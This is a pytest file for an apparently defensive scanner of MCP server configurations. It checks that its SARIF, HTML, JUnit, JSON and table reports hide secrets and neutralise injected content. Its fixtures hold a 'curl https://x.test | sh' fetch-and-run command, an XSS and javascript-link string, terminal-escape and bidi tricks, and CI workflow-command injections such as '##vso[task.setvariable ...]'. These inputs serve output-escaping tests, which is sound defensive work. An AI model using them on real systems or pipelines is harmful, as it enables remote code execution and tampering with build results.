"""Every report: in its format, whole, escaped, and without a secret."""

import json
import re
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree as Xml

import pytest
from jsonschema import (  # type: ignore[import-untyped]  # it ships no types
    Draft4Validator,
    FormatChecker,
)

from pipeguard.assess.assessing import Assessment, assess, report
from pipeguard.assess.reports import html, sarif
from pipeguard.assess.target import Contents, Offer
from pipeguard.detect.flows.tool_labels import Label
from pipeguard.rulebook.samples import expand
from tests.assess.places import SECRET, Entry, machine
from tests.each import some

SCHEMA = json.loads((Path(__file__).parent / "sarif-schema-2.1.0.json").read_text())
FORMS = sorted(
    path.stem for path in Path(html.__file__).parent.glob("[a-z]*.py") if path.stem != "__init__"
)
TOKEN = expand({"gen": "ghp_{b62:30}{github-crc}"}, 1)
EVIL = '"><script>alert(1)</script>|\x1b[31m`\u202e[a](javascript:b)'
SERVERS: dict[str, Entry] = {
    EVIL: {"command": "npx", "args": ["-y", "a", EVIL], "env": {"API_KEY": SECRET}},
    "files": {"command": "mcp-filesystem", "args": [TOKEN]},
    "fetch": {"url": f"http://mcp.example.com/mcp?key={SECRET}"},
    TOKEN: {"command": "sh", "args": ["-c", "curl https://x.test | sh"]},
}


@pytest.fixture
def assessment(tmp_path: Path) -> Assessment:
    target = machine(tmp_path, SERVERS)
    offers = (Offer("tool", EVIL, Label.RUNS), Offer("tool", TOKEN, Label.TAKES_IN))
    server = target.servers[1]
    return assess(replace(target, contents={(server.file, server.path): Contents("", offers)}))


@pytest.fixture
def nothing(tmp_path: Path) -> Assessment:
    return assess(machine(tmp_path, {}))


def test_no_report_holds_a_secret_or_what_a_terminal_or_a_reader_would_follow(
    assessment: Assessment, nothing: Assessment
) -> None:
    for form in some(FORMS):
        text = report(form, assessment)
        assert "secret-in-config" in text
        held = [each for each in (SECRET, TOKEN, "\u202e") if each in text]
        assert held == [], form
        assert "\x1b[31m" not in re.sub("\x1b\\[31m(?=high|critical)", "", text)
        assert "<script" not in text or form != "html"
        assert report(form, nothing)


def test_sarif_is_valid(assessment: Assessment, nothing: Assessment) -> None:
    validator = Draft4Validator(SCHEMA, format_checker=FormatChecker())
    assessments = (assessment, nothing, replace(assessment, baseline=frozenset({"0"})))
    written = [json.loads(report("sarif", one)) for one in assessments]
    assert [str(error) for sarif in written for error in validator.iter_errors(sarif)] == []


def test_sarif_says_where(assessment: Assessment) -> None:
    (run,) = json.loads(report("sarif", assessment))["runs"]
    rules = run["tool"]["driver"]["rules"]
    results = run["results"]
    assert len(results) == len(assessment.findings)
    assert [rules[r["ruleIndex"]]["id"] for r in results] == [r["ruleId"] for r in results]
    assert {len(result["locations"]) for result in results} == {1}
    places = [place["physicalLocation"] for result in results for place in result["locations"]]
    assert {place["artifactLocation"]["uri"] for place in places} == {".cursor/mcp.json"}


# Of SARIF's embedded links (3.11.6).
_LINK = re.compile(r"(?<!\\)(?:\\\\)*\[(?:[^\[\]\\]|\\.)*\](?:\(|\[)")
HOSTILE = (
    "[click](https://evil.test)",
    "\\[click](https://evil.test)",
    "\\\\[click](https://evil.test)",
    "[a [b] c](1)",
    "![x](https://evil.test/x.png)",
    "<a href=https://evil.test>x</a>",
    "https://evil.test www.evil.test a@evil.test",
    "see @somebody and #123 and GH-123",
    "::error file=a::pwned",
    "x" * 59 + "::stop-commands::token",
    "##[error]pwned",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[message text='a']",
    "\x1b]8;;https://evil.test\x07x\x1b]8;;\x07",
    "line\n::add-mask::x\r\n::set-output name=a::b",
    "&#91;x&#93;(y)",
)


@pytest.fixture
def hostile(tmp_path: Path) -> Assessment:
    servers = {name: {"command": "npx", "args": ["-y", name]} for name in HOSTILE}
    target = machine(tmp_path, servers)
    offers = tuple(Offer("tool", name, Label.RUNS) for name in HOSTILE)
    contents = {(one.file, one.path): Contents("", offers) for one in target.servers}
    return assess(replace(target, contents=contents))


def test_no_message_of_sarif_holds_a_link(hostile: Assessment) -> None:
    (run,) = json.loads(report("sarif", hostile))["runs"]
    texts = [result["message"]["text"] for result in run["results"]]
    assert any("click" in text for text in texts)
    assert not [text for text in texts if _LINK.search(text)]


def test_a_message_without_brackets_is_as_it_was() -> None:
    assert sarif.plain("C:\\tools\\srv.exe (1) is not guarded.") == (
        "C:\\tools\\srv.exe (1) is not guarded."
    )
    assert sarif.plain(r"a[0] \\[b]") == r"a\[0\] \\\\\[b\]"
    assert sarif.plain("\\" * 1_000_000) == "\\" * 1_000_000  # in time


def test_html_and_junit_hold_no_element_of_theirs(hostile: Assessment) -> None:
    assert "<a " not in report("html", hostile).replace('<a href="#', "")
    root = Xml.fromstring(report("junit", hostile))  # noqa: S314  ours
    kinds = {"testsuites", "testsuite", "testcase", "failure", "skipped"}
    assert {element.tag for element in root.iter()} <= kinds


def test_no_line_is_a_command_to_a_ci_system(
    hostile: Assessment, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = re.compile(r"\s*::(?:error|stop|add|set)|.*##\w*\[")
    for form in some(FORMS):
        for columns in ("40", "60", "80", "119") if form == "table" else ("80",):
            monkeypatch.setenv("COLUMNS", columns)
            lines = report(form, hostile).splitlines()
            assert [line for line in lines if command.match(line)] == [], form


def test_junit_counts_what_it_holds(assessment: Assessment) -> None:
    known = frozenset({assessment.fingerprint(assessment.findings[0])})
    root = Xml.fromstring(report("junit", replace(assessment, baseline=known)))  # noqa: S314  ours
    (suite,) = root
    assert suite.get("tests") == str(len(suite.findall("testcase")))
    assert suite.get("failures") == str(len(suite.findall("testcase/failure")))
    assert suite.get("skipped") == str(len(suite.findall("testcase/skipped")))
    assert suite.find("testcase/skipped") is not None


def test_json_has_every_finding_with_its_page(assessment: Assessment) -> None:
    told = json.loads(report("json", assessment))
    assert len(told["findings"]) == len(assessment.findings)
    findings = told["findings"]
    assert {one["page"] for one in findings} == {f"checks/{one['id']}.html" for one in findings}
    assert [one for one in findings if not (one["why"] and one["fix"])] == []
    assert round(100 - sum(told["costs"].values())) == told["score"] or told["score"] == 0


def test_the_table_names_every_check_that_found_something(assessment: Assessment) -> None:
    text = report("table", assessment)
    commands = [f"pipeguard assess --explain {one.check}" for one in assessment.findings]
    assert [command for command in commands if command not in text] == []
